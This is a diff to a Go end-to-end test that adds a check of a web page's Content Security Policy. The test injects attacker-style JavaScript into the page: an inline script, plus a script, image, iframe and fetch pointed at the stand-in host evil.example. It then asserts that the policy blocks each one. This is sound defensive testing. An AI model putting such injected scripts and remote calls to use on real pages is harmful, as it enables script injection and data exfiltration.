@@ -4,6 +4,7 @@ package e2e
 
 import (
 	"encoding/json"
+	"strings"
 	"testing"
 )
 
@@ -36,6 +37,8 @@ func TestShipped(t *testing.T) {
 	p, w := s.openPage(t, nil, program(t, "mixdown"), "--demo")
 	w.shows(t, "Spring radio", "23 sent, 8 replies", "120", "SAMPLE")
 	s.shot(t, "dashboard")
+
+	w.holdsPolicy(t)
 
 	w.press(t, "main button", "Replies received")
 	w.shows(t, "Counted", "Left out", "same thread")
@@ -74,4 +77,36 @@ func TestShipped(t *testing.T) {
 	_, again := s.openPage(t, nil, program(t, "mixdown"), "--demo")
 	again.shows(t, "23 sent, 8 replies")
 	s.shot(t, "second-start")
+}
+
+// holdsPolicy tries, from within the page, what an attacker would: inline script, a script and a picture from elsewhere, a frame,
+// and sending something away. The page's policy must stop each.
+func (w *page) holdsPolicy(t *testing.T) {
+	t.Helper()
+	const attack = `
+		window.stopped = [];
+		document.addEventListener("securitypolicyviolation", (e) => window.stopped.push(e.effectiveDirective));
+		const inline = document.createElement("script");
+		inline.textContent = "window.hurt = 1";
+		const remote = document.createElement("script");
+		remote.src = "https://evil.example/x.js";
+		const image = document.createElement("img");
+		image.src = "https://evil.example/pixel.png";
+		const frame = document.createElement("iframe");
+		frame.src = "https://evil.example/";
+		document.body.append(inline, remote, image, frame);
+		fetch("https://evil.example/").catch(() => {});`
+	if _, err := w.run(attack); err != nil {
+		t.Fatal(err)
+	}
+	const told = `return [...new Set(window.stopped)].sort().join() + " hurt: " + String(window.hurt)`
+	const want = "connect-src,frame-src,img-src,script-src-elem hurt: undefined"
+	var got any
+	await(t, soon, "the policy to stop "+want, func() bool {
+		got, _ = w.run(told)
+		return got == want || got == strings.ReplaceAll(want, "script-src-elem", "script-src")
+	})
+	if _, err := w.run(`document.querySelectorAll("body > script, body > img, body > iframe").forEach((e) => e.src.includes("evil") && e.remove())`); err != nil {
+		t.Fatal(err)
+	}
 }
